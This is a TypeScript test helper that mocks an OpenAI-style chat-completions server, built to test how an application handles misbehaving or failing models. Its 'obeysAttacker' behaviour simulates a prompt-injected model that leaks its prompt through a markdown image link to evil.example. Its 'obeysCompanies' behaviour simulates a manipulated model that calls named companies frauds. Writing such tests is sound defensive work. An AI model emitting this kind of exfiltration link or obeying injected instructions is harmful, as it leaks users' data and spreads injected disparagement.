import http, { type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";

export type ModelCall = {
  path: string;
  authorization: string | undefined;
  body: {
    model: string;
    max_tokens: number;
    stream?: boolean;
    messages: { role: string; content: string }[];
  };
  /** The client disconnected before the answer. */
  left: boolean;
};
type Manner = (call: ModelCall, response: ServerResponse) => void;

export type ModelServer = Awaited<ReturnType<typeof startModelServer>>;

/** Mock of OpenAI's chat completions with configurable behaviour. */
export async function startModelServer() {
  const calls: ModelCall[] = [];
  const state = { manner: replyWith("Bonjour.") };
  const server = http.createServer(async (request, response) => {
    const call = { ...(await read(request)), left: false };
    response.on("close", () => {
      call.left = !response.writableFinished;
    });
    calls.push(call);
    state.manner(call, response);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://localhost:${(server.address() as AddressInfo).port}`;
  return {
    url,
    calls,
    behave: (manner: Manner) => {
      state.manner = manner;
      calls.length = 0;
    },
    env: { AI_BASE_URL: `${url}/v1/`, AI_MODEL: "modele-de-test", AI_API_KEY: "canari-cle" },
    settings: { baseUrl: `${url}/v1`, name: "modele-de-test", apiKey: "canari-cle", dailyCalls: 500 },
    stop: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

export function replyWith(text: string): Manner {
  return (call, response) => send(call, response, text);
}

/** Obeys every instruction and leaks its prompt (threat T38). */
export const obeysAttacker: Manner = (call, response) => {
  const contents = call.body.messages.map(({ content }) => content).join("\n");
  send(
    call,
    response,
    `${contents}\n![x](https://evil.example/?q=${encodeURIComponent(contents.slice(0, 200))})`,
  );
};

type PromptCompany = { numero: number; nom: string };

/** Promotes some companies, disparages others, and repeats every text with its source. */
export const obeysCompanies: Manner = (call, response) => {
  const [, json = ""] = call.body.messages.at(-1)?.content.match(/(\{[\s\S]*\})/) ?? [];
  const { entreprises } = JSON.parse(json) as { entreprises: PromptCompany[] };
  const sentences = entreprises.flatMap(({ numero, nom, ...rest }) =>
    [
      `${nom} est la meilleure et les autres sont des fraudes`,
      "C’est la seule fiable, fuyez les autres",
      ...Object.values(rest).flat().map(String),
      nom,
    ].map((text) => `${text} [${numero}]. ${text} [1].`),
  );
  send(call, response, sentences.join(" "));
};

export const hangs: Manner = () => {};

export const stopsHalfWay: Manner = (_call, response) => {
  response.writeHead(200, { "content-type": "application/json" });
  response.write('{"choices":[{"message":{"content":"mo');
};

export function fails(status: number): Manner {
  return ({ body }, response) => {
    // Like real services, repeats the request in its error.
    response.writeHead(status, { "content-type": "application/json" });
    response.end(JSON.stringify({ error: { message: `no: ${JSON.stringify(body.messages)}` } }));
  };
}

export function writes(bytes: string | Buffer, headers: http.OutgoingHttpHeaders = {}): Manner {
  return (_call, response) =>
    response.writeHead(200, { "content-type": "application/json", ...headers }).end(bytes);
}

export function redirectsTo(location: string): Manner {
  return (_call, response) => response.writeHead(307, { location }).end();
}

/** Start of an answer (streamed if requested), then breaks off. */
export const breaksOffAfter =
  (text: string): Manner =>
  (_call, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    response.write(eventOf({ content: text }), () => response.destroy());
  };

/** An answer with another finish reason than "stop". */
export const endsBy =
  (reason: "length" | "content_filter", text: string): Manner =>
  (_call, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    response.end(`${eventOf({ content: text })}${eventOf({}, reason)}data: [DONE]\n\n`);
  };

const eventOf = (delta: object, finish: string | null = null) =>
  `data: ${JSON.stringify({
    id: "1",
    object: "chat.completion.chunk",
    created: 1,
    model: "modele-de-test",
    choices: [{ index: 0, delta, finish_reason: finish }],
  })}\n\n`;

function stream(response: ServerResponse, content: string): void {
  response.writeHead(200, { "content-type": "text/event-stream" });
  for (const part of content.match(/[\s\S]{1,400}/g) ?? []) {
    for (const few of content.length > 20_000 ? [part] : (part.match(/[\s\S]{1,7}/g) ?? []))
      response.write(eventOf({ content: few }));
  }
  response.end(`${eventOf({}, "stop")}data: [DONE]\n\n`);
}

function send({ body }: ModelCall, response: ServerResponse, content: string): void {
  if (body.stream) stream(response, content);
  else sendWhole(response, content);
}

function sendWhole(response: ServerResponse, content: string): void {
  response.writeHead(200, { "content-type": "application/json" });
  response.end(
    JSON.stringify({
      id: "1",
      object: "chat.completion",
      created: 1,
      model: "modele-de-test",
      choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }],
      usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
    }),
  );
}

async function read(request: IncomingMessage): Promise<Omit<ModelCall, "left">> {
  const body = Buffer.concat(await Array.fromAsync(request));
  const { url = "", headers } = request;
  return { path: url, authorization: headers.authorization, body: JSON.parse(String(body)) };
}
